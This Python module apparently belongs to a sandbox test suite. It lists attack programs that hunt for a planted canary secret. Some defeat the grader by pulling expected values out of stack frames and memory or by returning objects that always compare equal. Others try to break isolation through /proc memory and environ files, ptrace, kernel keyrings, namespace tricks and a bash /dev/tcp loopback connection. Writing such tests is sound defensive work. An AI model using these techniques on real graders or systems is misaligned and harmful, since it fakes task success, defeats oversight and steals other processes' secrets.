"""Programs that look for the answer instead of working it out, and for secrets of the caller.

The answer is a secret of 32 hexadecimal digits, which the suite has put into a file, a variable of
the environment and behind a port of the host, and which the grader knows as what is expected: who
passes has found it somewhere. Nothing here writes anywhere but to its own directory.
"""

from __future__ import annotations

from typing import Any

from plaudit.sandbox.attacks._attack import Attack

__all__ = ["ATTACKS"]

_SECRET = (((3,), "{canary}"),)
_PRINTED = (("\n", "{canary}\n"),)
_HANDED_ON = (("keep {canary}\n", "kept\n"), ("find\n", "{canary}\n"), ("find\n", "{canary}\n"))

_FINDER = '''\
import re


def found(*things):
    """The first thing that looks like the secret."""
    for thing in things:
        data = thing if isinstance(thing, bytes) else str(thing).encode("utf-8", "replace")
        match = re.search(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", data)
        if match:
            return match.group().decode()
    return None


'''

_PEEK = '''\
import os

reader, writer = os.pipe()
libc = ctypes.CDLL(None)


def peek(address, size=4096):
    """Bytes at an address; none where there is no memory: the kernel says so."""
    told = libc.write(writer, ctypes.c_void_p(address), ctypes.c_size_t(size))
    return os.read(reader, told) if told > 0 else b""


'''


def _steals(
    name: str,
    why: str,
    program: str,
    *,
    layer: str = "landlock",
    tests: Any = _SECRET,
    **fields: Any,
) -> Attack:
    """Returns the secret, if it finds it."""
    return Attack(name, _FINDER + program, tests, "fail", layer=layer, why=why, **fields)


def _asked(name: str, why: str, tests: str, program: str) -> Attack:
    """Is asked by tests that know the secret, and looks for it on their side."""
    return Attack(name, _FINDER + program, tests, "fail", "assert", layer="protocol", why=why)


def _reads(name: str, why: str, expression: str, *, imports: str = "", **fields: Any) -> Attack:
    """Returns what an expression finds."""
    heading = "".join(f"import {module}\n" for module in imports.split())
    body = f"{heading}\n\ndef solve(x):\n    return found({expression})\n"
    return _steals(name, why, body, **fields)


_ANSWERS = (
    _steals(
        "expected_in_frames",
        "a grader that calls the function holds what it expects in a local variable",
        """\
import sys


def solve(x):
    frame = sys._getframe()
    while frame:
        for held in (frame.f_locals, frame.f_globals):
            secret = found(*held.values())
            if secret:
                return secret
        frame = frame.f_back
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_traceback",
        "the same frames, by way of an exception",
        """\
def solve(x):
    try:
        raise KeyError
    except KeyError as error:
        frame = error.__traceback__.tb_frame
    while frame:
        secret = found(frame.f_locals, frame.f_globals, frame.f_code.co_consts)
        if secret:
            return secret
        frame = frame.f_back
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_other_threads",
        "the grader may wait in another thread",
        """\
import sys
import threading


def solve(x):
    held = [vars(thread) for thread in threading.enumerate()]
    for frame in sys._current_frames().values():
        while frame:
            held += [frame.f_locals, frame.f_globals]
            frame = frame.f_back
    return found(*held)
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_collector",
        "the garbage collector knows every container of the process",
        """\
import gc


def solve(x):
    for held in gc.get_objects():
        if type(held) in (list, tuple, dict, set):
            try:
                secret = found(*(held.items() if type(held) is dict else held))
            except Exception:
                continue
            if secret:
                return secret
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_referrers",
        "whoever holds the function holds its tests",
        """\
import gc


def solve(x):
    waiting, seen = [solve, x], set()
    while waiting and len(seen) < 3000:
        thing = waiting.pop()
        if id(thing) in seen:
            continue
        seen.add(id(thing))
        if type(thing) is str and found(thing):
            return found(thing)
        if thing is not waiting and thing is not seen:
            waiting += gc.get_referrers(thing)[:50] + gc.get_referents(thing)[:50]
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_modules",
        "every module's globals, the grader's among them",
        """\
import sys


def solve(x):
    for name, module in list(sys.modules.items()):
        for held in list(getattr(module, "__dict__", {}).values()):
            if type(held) in (str, bytes, list, tuple, dict, set):
                secret = found(held)
                if secret:
                    return secret
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_constants",
        "literals of the test code are constants of its code objects",
        """\
import gc
import types


def constants(code):
    for held in code.co_consts:
        if isinstance(held, types.CodeType):
            yield from constants(held)
        yield held


def solve(x):
    functions = [f for f in gc.get_objects() if isinstance(f, types.FunctionType)]
    return found(*(c for f in functions for c in constants(f.__code__) if isinstance(c, str)))
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_source",
        "tests that are appended to the program stand in its own file",
        """\
import inspect
import linecache
import sys


def solve(x):
    texts = ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]
    for path in (sys.argv[0], __file__ if "__file__" in globals() else "", "solution.py"):
        texts += linecache.getlines(path)
    try:
        texts.append(inspect.getsource(sys.modules["__main__"]))
    except (OSError, TypeError):
        pass
    return found(*texts)
""",
        layer="protocol",
    ),
    _steals(
        "expected_on_command_line",
        "arguments of the process, as Python and as the kernel know them",
        """\
import sys


def solve(x):
    held = [sys.argv, sys.orig_argv, sys.flags, sys._xoptions, sys.path]
    for pid in ("self", "thread-self"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                held.append(file.read())
        except OSError:
            pass
    return found(*held)
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_descriptors",
        "whatever is open is read from its beginning, expected values among it",
        """\
import os


def solve(x):
    held = []
    for fd in range(256):
        try:
            held.append(os.pread(fd, 1 << 20, 0))
        except OSError:
            try:
                os.set_blocking(fd, False)
                held.append(os.read(fd, 1 << 20))
            except OSError:
                pass
    return found(*held)
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_messages",
        "a look into the queues of the sockets, which takes nothing out",
        """\
import socket


def solve(x):
    held = []
    for fd in range(64):
        try:
            with socket.socket(fileno=fd) as end:
                end.setblocking(False)
                held.append(end.recv(1 << 16, socket.MSG_PEEK))
                end.detach()
        except OSError:
            pass
    return found(*held)
""",
        layer="protocol",
    ),
    _steals(
        "expected_in_next_input",
        "standard input is read to its end: the tests that follow, with their outputs",
        """\
import os
import sys

text = sys.stdin.read()
try:
    os.lseek(0, 0, os.SEEK_SET)
    text += os.read(0, 1 << 20).decode()
except OSError:
    pass
print(found(text))
""",
        layer="protocol",
        tests=_PRINTED,
        style="stdin",
    ),
    _steals(
        "expected_of_the_comparison",
        "the object remembers what it was compared with, and the next call returns that",
        """\
seen = []


class Thief(str):
    def __eq__(self, other):
        seen.append(other)
        return False

    __ne__ = __lt__ = __gt__ = __contains__ = __radd__ = __eq__
    __hash__ = str.__hash__


def solve(x):
    return seen[-1] if seen else Thief("?")
""",
        layer="protocol",
        tests=(((3,), "{canary}"), ((4,), "{canary}")),
    ),
    _steals(
        "expected_through_builtins",
        "builtins that listen to what they are called with",
        """\
import builtins

heard = []
real = {name: getattr(builtins, name) for name in ("isinstance", "len", "repr", "sorted", "type")}


def listening(function):
    def listen(*args, **keywords):
        heard.extend(args)
        return function(*args, **keywords)

    return listen


for name in ("len", "repr", "sorted"):
    setattr(builtins, name, listening(real[name]))


def solve(x):
    return found(*heard)
""",
        layer="protocol",
        tests=(((3,), "{canary}"), ((4,), "{canary}")),
    ),
    _steals(
        "expected_by_tracing",
        "a trace function sees the locals of every function that follows",
        """\
import sys

heard = []


def listen(frame, event, value):
    heard.append(found(*frame.f_locals.values(), value))
    return listen


def solve(x):
    frame = sys._getframe()
    sys.settrace(listen)
    while frame:
        frame.f_trace = listen
        frame = frame.f_back
    return next(filter(None, heard), None)
""",
        layer="protocol",
        tests=(((3,), "{canary}"), ((4,), "{canary}"), ((5,), "{canary}")),
    ),
)

_ASKED = (
    _asked(
        "globals_of_a_callback",
        "a function of the tests leads to their globals",
        'WANTED = "{canary}"\n\n\ndef same(v):\n    return v\n\n\nassert solve(same) == WANTED\n',
        """\
def solve(callback):
    for name in ("__globals__", "__closure__", "__code__", "__self__", "__func__", "__dict__"):
        try:
            secret = found(getattr(callback, name))
        except Exception:
            continue
        if secret:
            return secret
""",
    ),
    _asked(
        "questions_to_the_tests",
        "the line to the tests is open in both directions: it asks for their variables",
        'WANTED = "{canary}"\nassert solve(lambda v: v) == WANTED\n',
        """\
import json
import os

ASKED = ("WANTED", "__globals__", "__dict__", "__class__", "f_back", "tb_frame", "__init__")


def solve(callback):
    heard = []
    for act in ("get", "names", "call", "repr", "dir", "__repr__", "__getattribute__", "eval"):
        for name in ASKED:
            for place in (0, 1, "WANTED"):
                question = {"q": [act, place, [name], []]}
                os.write(3, json.dumps(question).encode() + b"\\n")
                heard.append(os.read(3, 1 << 16))
    return found(*heard)
""",
    ),
    _asked(
        "subclasses_of_a_callback",
        "from an object to object, to all classes, to a module, to its variables",
        'WANTED = "{canary}"\nassert solve(print, int, {"key": len}) == WANTED\n',
        """\
def solve(*things):
    held = []
    for thing in things:
        for kind in type(thing).__mro__:
            for sub in type.__subclasses__(kind)[:500]:
                held += vars(sub).values()
                held.append(getattr(getattr(sub, "__init__", None), "__globals__", ""))
    return found(*held)
""",
    ),
    _asked(
        "expected_as_operand",
        "the tests compare with an object that takes note of the other side",
        'for _ in range(3):\n    assert solve(1) == "{canary}"\n',
        """\
seen = []


class Thief:
    def __eq__(self, other):
        seen.append(other)
        return True

    __radd__ = __rsub__ = __contains__ = __lt__ = __gt__ = __call__ = __getitem__ = __eq__
    __hash__ = object.__hash__


def solve(x):
    return found(*seen) or Thief()
""",
    ),
    _asked(
        "expected_as_key",
        "the tests look the result up in their own table, whose keys are asked for",
        'TABLE = {"{canary}": 1}\nassert TABLE.get(solve(1)) == 1\n',
        """\
class Thief(str):
    def __hash__(self):
        return 1

    def __eq__(self, other):
        return True


def solve(x):
    return Thief("?")
""",
    ),
    _asked(
        "tests_in_the_directory",
        "the text of the tests may lie in a file, and the process of the tests nearby",
        'assert solve(1) == "{canary}"\n',
        """\
import glob
import os


def solve(x):
    held = []
    for pattern in ("*", "../*", "/tmp/*", "/tmp/*/*", "/proc/*/cmdline", "/proc/*/fd/*"):
        for path in glob.glob(pattern):
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                held.append(os.pread(fd, 1 << 16, 0))
                os.close(fd)
            except OSError:
                pass
    return found(*held)
""",
    ),
)

_MEMORY = (
    _steals(
        "own_memory_file",
        "the process's own memory, every mapping of it",
        """\
def solve(x):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            start, _, end = line.split()[0].partition("-")
            if "r" not in line.split()[1] or "[v" in line:
                continue
            try:
                memory.seek(int(start, 16))
                secret = found(memory.read(min(int(end, 16) - int(start, 16), 64 << 20)))
            except (OSError, ValueError, OverflowError):
                continue
            if secret:
                return secret
""",
        limits=(("cpu_s", 2.0),),
    ),
    _steals(
        "own_heap",
        "the heap, page by page, without any file",
        "import ctypes\n"
        + _PEEK
        + """\
def solve(x):
    libc.sbrk.restype = ctypes.c_void_p
    top = libc.sbrk(0) & ~4095
    around = id(x) & ~4095
    for start in (top, around, id([]) & ~4095, id("a" * 600) & ~4095):
        for step in range(-1024, 256):
            secret = found(peek(start + 4096 * step))
            if secret:
                return secret
""",
        layer="protocol",
        limits=(("cpu_s", 2.0),),
    ),
    _steals(
        "own_stack",
        "the environment that the process was started with stays at the bottom of its stack",
        "import ctypes\n"
        + _PEEK
        + """\
def solve(x):
    name = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    here = ctypes.addressof(ctypes.c_void_p.in_dll(libc, "environ"))
    starts = (name, ctypes.c_void_p.in_dll(libc, "environ").value or name, here)
    return found(*(peek((s & ~4095) + 4096 * i) for s in starts for i in range(-64, 32)))
""",
        layer="environment",
    ),
    _steals(
        "freed_memory",
        "fresh memory that was somebody else's before is not always cleared",
        """\
import ctypes

libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p


def solve(x):
    for size in (64, 256, 1024, 4096, 60_000, 1 << 20):
        for _ in range(50):
            place = libc.malloc(ctypes.c_size_t(size))
            secret = place and found(ctypes.string_at(place, size))
            if secret:
                return secret
""",
        layer="protocol",
    ),
    _steals(
        "parent_memory",
        "process_vm_readv reads the memory of a process of the same user",
        """\
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def solve(x):
    page = ctypes.create_string_buffer(1 << 20)
    libc.sbrk.restype = ctypes.c_void_p
    start = libc.sbrk(0) - (8 << 20)
    for step in range(16):
        ours = (ctypes.c_size_t * 2)(ctypes.addressof(page), len(page))
        theirs = (ctypes.c_size_t * 2)(start + step * len(page), len(page))
        if libc.process_vm_readv(os.getppid(), ours, 1, theirs, 1, 0) < 0:
            if ctypes.get_errno() in (1, 38):
                return None
            continue
        secret = found(page.raw)
        if secret:
            return secret
    return None
""",
        layer="seccomp",
    ),
    _steals(
        "parent_memory_file",
        "the memory of the processes above is a file each",
        """\
import os


def solve(x):
    pid = os.getppid()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, _, end = line.split()[0].partition("-")
            if "rw" in line and int(end, 16) - int(start, 16) < 16 << 20:
                memory.seek(int(start, 16))
                secret = found(memory.read(int(end, 16) - int(start, 16)))
                if secret:
                    return secret
""",
        limits=(("cpu_s", 2.0),),
    ),
    _steals(
        "traced_parent",
        "a tracer reads word by word",
        """\
import ctypes
import os

libc = ctypes.CDLL(None)
libc.ptrace.restype = ctypes.c_long


def solve(x):
    if libc.ptrace(0x4206, os.getppid(), None, None) != 0:
        return None
    words = [libc.ptrace(1, os.getppid(), ctypes.c_void_p(id(x) + 8 * i), None) for i in range(999)]
    return found(b"".join((w & (1 << 64) - 1).to_bytes(8, "little") for w in words)) or words
""",
        layer="seccomp",
    ),
    Attack(
        "left_in_memory",
        _FINDER
        + "import ctypes\n"
        + _PEEK
        + """\
word, *rest = input().split()
if word == "keep":
    copies = [bytearray(rest[0].encode() * 100) for _ in range(2000)]
    text = [rest[0] + str(i) for i in range(10_000)]
    print("kept")
else:
    libc.sbrk.restype = ctypes.c_void_p
    places = [libc.sbrk(0), id(found), id([]), id(bytearray(3000))]
    pages = (peek((place & ~4095) + 4096 * i) for place in places for i in range(-512, 256))
    print(found(*pages))
""",
        _HANDED_ON,
        "fail",
        "stdin",
        limits=(("cpu_s", 2.0),),
        layer="protocol",
        why="the memory of the process that served the program before",
    ),
    Attack(
        "left_in_files",
        _FINDER
        + """\
import contextlib
import os

word, *rest = input().split()
FOLDERS = (".", "..", os.environ.get("TMPDIR", "."), "/tmp", "/var/tmp", "/dev/shm")
held = []
for folder in FOLDERS:
    with contextlib.suppress(OSError):
        if word == "keep":
            with open(folder + "/plaudit-kept", "w") as file:
                file.write(rest[0])
        else:
            with open(folder + "/plaudit-kept") as file:
                held.append(file.read())
print("kept" if word == "keep" else found(*held))
""",
        _HANDED_ON,
        "fail",
        "stdin",
        layer="cleanup",
        why="a file for the next program, in any place that can be written to",
    ),
    Attack(
        "left_in_free_space",
        _FINDER
        + """\
import os

word, *rest = input().split()
if word == "keep":
    with open("kept", "w") as file:
        file.write(rest[0] * 100_000)
    os.remove("kept")
    print("kept")
else:
    fd = os.open("kept", os.O_RDWR | os.O_CREAT)
    os.posix_fallocate(fd, 0, 3 << 20)
    print(found(os.pread(fd, 3 << 20, 0)))
""",
        _HANDED_ON,
        "fail",
        "stdin",
        layer="cleanup",
        why="blocks that were deleted are given to the next file",
    ),
    Attack(
        "left_in_output",
        _FINDER
        + """\
import contextlib
import os

word, *rest = input().split()
held = []
for fd in (1, 2, 3):
    with contextlib.suppress(OSError):
        if word == "keep":
            os.pwrite(fd, rest[0].encode(), 1 << 16)
            os.ftruncate(fd, 0)
        held.append(os.pread(fd, 1 << 20, 0))
print("kept" if word == "keep" else found(*held))
""",
        _HANDED_ON,
        "fail",
        "stdin",
        layer="descriptors",
        why="an output file that is used again and only made shorter",
    ),
)

_FILES = (
    _reads("secret_opened", "a file of the caller", 'open("{secret_file}").read()'),
    _reads(
        "secret_opened_by_number",
        "the system call, past an `open` that was taken away",
        'os.read(ctypes.CDLL(None).syscall(257 if os.uname().machine == "x86_64" else 56,'
        ' -100, b"{secret_file}", 0), 100)',
        imports="ctypes os",
    ),
    _reads(
        "secret_copied",
        "copied into the directory that may be read",
        'open(shutil.copy("{secret_file}", "mine")).read()',
        imports="shutil",
    ),
    _reads(
        "secret_linked",
        "a link with a name of its own",
        'os.symlink("{secret_file}", "mine") or open("mine").read()',
        imports="os",
    ),
    _reads(
        "secret_hard_linked",
        "a second name for the same file",
        'os.link("{secret_file}", "mine") or open("mine").read()',
        imports="os",
    ),
    _reads(
        "secret_through_dots",
        "a path that begins where reading is allowed",
        'open(os.path.dirname(os.__file__) + "/.." * 12 + "{secret_file}").read()',
        imports="os",
    ),
    _reads(
        "secret_through_proc",
        "a path by way of the process's own root",
        'open("/proc/self/root{secret_file}").read()',
    ),
    _reads(
        "secret_through_descriptor",
        "a directory is opened as a place only, and the file relative to it",
        'os.read(os.open(os.path.basename("{secret_file}"), os.O_RDONLY,'
        ' dir_fd=os.open(os.path.dirname("{secret_file}"), os.O_PATH)), 100)',
        imports="os",
    ),
    _reads(
        "secret_as_source",
        "a traceback shows lines of whatever file the code claims to be from",
        'linecache.getlines("{secret_file}"), linecache.updatecache("{secret_file}")',
        imports="linecache",
    ),
    _steals(
        "secret_in_error_message",
        "the file is run as a program, and the error quotes it",
        """\
import runpy


def solve(x):
    try:
        runpy.run_path("{secret_file}")
    except (NameError, SyntaxError) as error:
        return found(error, getattr(error, "text", ""))
""",
    ),
    _steals(
        "secret_as_module",
        "an import from a folder that is put on the path",
        """\
import importlib.machinery


def solve(x):
    loader = importlib.machinery.SourceFileLoader("secret", "{secret_file}")
    return found(loader.get_data("{secret_file}"))
""",
    ),
    _steals(
        "secret_as_library",
        "the dynamic loader opens the file, and tells what is wrong with it",
        """\
import ctypes


def solve(x):
    libc = ctypes.CDLL(None)
    libc.fopen.restype = ctypes.c_void_p
    stream = libc.fopen(b"{secret_file}", b"r")
    line = ctypes.create_string_buffer(64)
    if stream:
        libc.fgets(line, 64, ctypes.c_void_p(stream))
        return found(line.raw)
    try:
        ctypes.CDLL("{secret_file}")
    except OSError as error:
        return found(error)
""",
    ),
    _steals(
        "secret_in_a_database",
        "a library in C that opens files by itself",
        """\
import sqlite3


def solve(x):
    table = sqlite3.connect(":memory:")
    try:
        table.execute("attach database '{secret_file}' as other")
        return found(*table.execute("select * from other.sqlite_master"))
    except sqlite3.DatabaseError:
        pass
    return found(open("{secret_file}", "rb").read())
""",
    ),
    _steals(
        "secret_by_walking",
        "every small text file that the process can reach",
        """\
import os


def solve(x):
    folder = os.path.dirname("{secret_file}")
    for top in (folder, os.path.dirname(folder), "/root", "/home", "/etc", "/tmp"):
        for count, (path, folders, files) in enumerate(os.walk(top)):
            folders[:] = folders[:20] if count < 200 else []
            for name in files[:50]:
                if "secret" in name or name.startswith(".token"):
                    with open(os.path.join(path, name), "rb") as file:
                        secret = found(file.read(1 << 16))
                    if secret:
                        return secret
""",
    ),
    _steals(
        "secret_by_mapping",
        "mapped into memory in place of being read",
        """\
import mmap


def solve(x):
    with open("{secret_file}", "rb") as file:
        return found(mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:])
""",
    ),
    _steals(
        "secret_by_sending",
        "the kernel moves the bytes from file to file",
        """\
import os


def solve(x):
    there = os.open("{secret_file}", os.O_RDONLY)
    here = os.open("mine", os.O_RDWR | os.O_CREAT)
    os.sendfile(here, there, 0, 100)
    os.copy_file_range(there, here, 100, 0, 0)
    return found(os.pread(here, 200, 0))
""",
    ),
    _steals(
        "secret_by_handle",
        "a file is opened by its number, without its path",
        """\
import ctypes
import os
import platform

libc = ctypes.CDLL(None)
name_to, open_by = (303, 304) if platform.machine() == "x86_64" else (264, 265)


def solve(x):
    handle = ctypes.create_string_buffer(b"\\x80\\0\\0\\0\\0\\0\\0\\0", 136)
    mount = ctypes.c_int()
    libc.syscall(name_to, -100, b"{secret_file}", handle, ctypes.byref(mount), 0)
    there = os.open(os.path.dirname("{secret_file}"), os.O_RDONLY)
    return found(os.read(libc.syscall(open_by, there, handle, 0), 100))
""",
        layer="seccomp",
    ),
    _steals(
        "secret_by_ring",
        "io_uring opens and reads without the system calls that a filter looks at",
        """\
import ctypes
import os

libc = ctypes.CDLL(None)


def solve(x):
    settings = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 8, settings)
    if ring < 0:
        return None
    os.close(ring)
    return found(open("{secret_file}").read())
""",
        layer="seccomp",
    ),
    _steals(
        "secret_by_command",
        "another program opens it",
        """\
import os
import subprocess


def solve(x):
    try:
        return found(subprocess.check_output(["cat", "{secret_file}"]))
    except OSError:
        return found(os.popen("cat {secret_file}").read())
""",
        layer="seccomp",
    ),
    _steals(
        "secret_printed_by_command",
        "the process becomes the command, and its output is the program's",
        """\
import os

os.execvp("cat", ["cat", "{secret_file}"])
""",
        layer="seccomp",
        tests=_PRINTED,
        style="stdin",
    ),
    _steals(
        "secret_in_a_new_root",
        "a name space of its own, in which it is root",
        """\
import ctypes
import os

libc = ctypes.CDLL(None)


def solve(x):
    if libc.unshare(0x10000000) != 0 and libc.unshare(0x00020000) != 0:
        return None
    os.chroot("/")
    return found(open("{secret_file}").read())
""",
        layer="seccomp",
    ),
)

_PROCESS_SECRETS = (
    _reads(
        "variable_of_the_caller",
        "tokens are in the environment",
        'os.environ.get("{secret_env}"), os.environ',
        imports="os",
        layer="environment",
    ),
    _steals(
        "variable_by_libc",
        "libc has a list of its own, which os.environ.clear() does not empty",
        """\
import ctypes

libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p


def solve(x):
    return found(libc.getenv(b"{secret_env}"))
""",
        layer="environment",
    ),
    _reads(
        "variable_by_proc",
        "the environment at the start of the process",
        'open("/proc/self/environ").read()',
    ),
    _reads(
        "variable_of_the_parent",
        "the environment of the process above",
        'open(f"/proc/{os.getppid()}/environ").read()',
        imports="os",
    ),
    _steals(
        "variables_of_everybody",
        "every process of the same user shows its environment",
        """\
import os


def solve(x):
    held = []
    for pid in range(1, 65_536):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                held.append(file.read())
        except OSError:
            pass
    return found(*held)
""",
        limits=(("cpu_s", 4.0),),
    ),
    _steals(
        "descriptors_of_everybody",
        "open files, working directories and roots of other processes are links",
        """\
import os


def solve(x):
    for pid in (os.getppid(), 1, "self", os.getppid() - 1):
        for name in ("cwd", "root", "exe", *(f"fd/{n}" for n in range(32))):
            path = f"/proc/{pid}/{name}"
            try:
                held = open(path + "{secret_file}" if name == "root" else path, "rb").read(1 << 20)
            except OSError:
                continue
            if found(held):
                return found(held)
""",
    ),
    _steals(
        "keys_of_the_user",
        "the kernel keeps keys for a user's sessions",
        """\
import ctypes
import platform

libc = ctypes.CDLL(None)
number = 250 if platform.machine() == "x86_64" else 219


def solve(x):
    held = ctypes.create_string_buffer(4096)
    for ring in range(-5, 0):
        count = libc.syscall(number, 11, ring, held, 4096)
        for i in range(0, max(count, 0), 4):
            key = int.from_bytes(held.raw[i : i + 4], "little")
            text = ctypes.create_string_buffer(4096)
            if libc.syscall(number, 11, key, text, 4096) > 0 and found(text.raw):
                return found(text.raw)
""",
        layer="seccomp",
    ),
    _steals(
        "dump_of_a_crash",
        "a crash of its own shows what other processes have left, and dumps are files",
        """\
import glob
import os


def solve(x):
    held = []
    for path in (*glob.glob("core*"), *glob.glob("/var/crash/*"), *glob.glob("/tmp/core*")):
        with open(path, "rb") as file:
            held.append(file.read(1 << 24))
    for path in ("/dev/mem", "/proc/kcore", "/dev/kmsg", "/var/log/syslog", "/run/secrets"):
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            held.append(os.read(fd, 1 << 16))
        except OSError:
            pass
    return found(*held)
""",
    ),
)

_NETWORK = (
    _steals(
        "port_of_the_host",
        "a service of the host that listens on loopback only",
        """\
import socket


def solve(x):
    with socket.create_connection(("127.0.0.1", {secret_port}), 1) as line:
        return found(line.recv(100))
""",
        layer="seccomp",
    ),
    _steals(
        "port_by_libc",
        "past a socket module that was taken away",
        """\
import ctypes
import os
import struct

libc = ctypes.CDLL(None)


def solve(x):
    fd = libc.socket(2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack("!HI", {secret_port}, 0x7F000001) + bytes(8)
    if libc.connect(fd, address, 16) == 0:
        return found(os.read(fd, 100))
""",
        layer="seccomp",
    ),
    _steals(
        "port_by_other_families",
        "IPv6 leads to the same port, and so does a datagram that opens a connection",
        """\
import socket


def solve(x):
    for family, host in ((socket.AF_INET6, "::ffff:127.0.0.1"), (socket.AF_INET6, "::1")):
        try:
            with socket.socket(family) as line:
                line.settimeout(0.5)
                line.connect((host, {secret_port}))
                return found(line.recv(100))
        except OSError:
            pass
    with socket.socket() as line:
        line.settimeout(0.5)
        line.sendto(b"", 0x20000000, ("127.0.0.1", {secret_port}))
        return found(line.recv(100))
""",
        layer="seccomp",
    ),
    _steals(
        "port_by_pair",
        "the two ends of a pair are sockets as well, and may be connected anew",
        """\
import socket


def solve(x):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            ours, _ = socket.socketpair(socket.AF_UNIX, kind)
            ours.settimeout(0.3)
            ours.connect("\\0plaudit")
            return found(ours.recv(100))
        except OSError:
            pass
""",
        layer="seccomp",
    ),
    _steals(
        "port_by_library",
        "libraries that fetch",
        """\
import urllib.request


def solve(x):
    try:
        return found(urllib.request.urlopen("http://127.0.0.1:{secret_port}/", timeout=1).read())
    except Exception as error:
        return found(error, getattr(error, "args", ""), getattr(error, "line", ""))
""",
        layer="seccomp",
    ),
    _steals(
        "port_by_event_loop",
        "asyncio opens connections as well",
        """\
import asyncio


async def fetch():
    reader, writer = await asyncio.open_connection("127.0.0.1", {secret_port})
    return await reader.read(100)


def solve(x):
    return found(asyncio.run(fetch()))
""",
        layer="seccomp",
    ),
    _steals(
        "port_by_shell",
        "a shell opens connections when it redirects",
        """\
import os

os.execv("/bin/bash", ["bash", "-c", "cat < /dev/tcp/127.0.0.1/{secret_port}"])
""",
        layer="seccomp",
        tests=_PRINTED,
        style="stdin",
    ),
)

ATTACKS: tuple[Attack, ...] = (
    *_ANSWERS,
    *_ASKED,
    *_MEMORY,
    *_FILES,
    *_PROCESS_SECRETS,
    *_NETWORK,
)
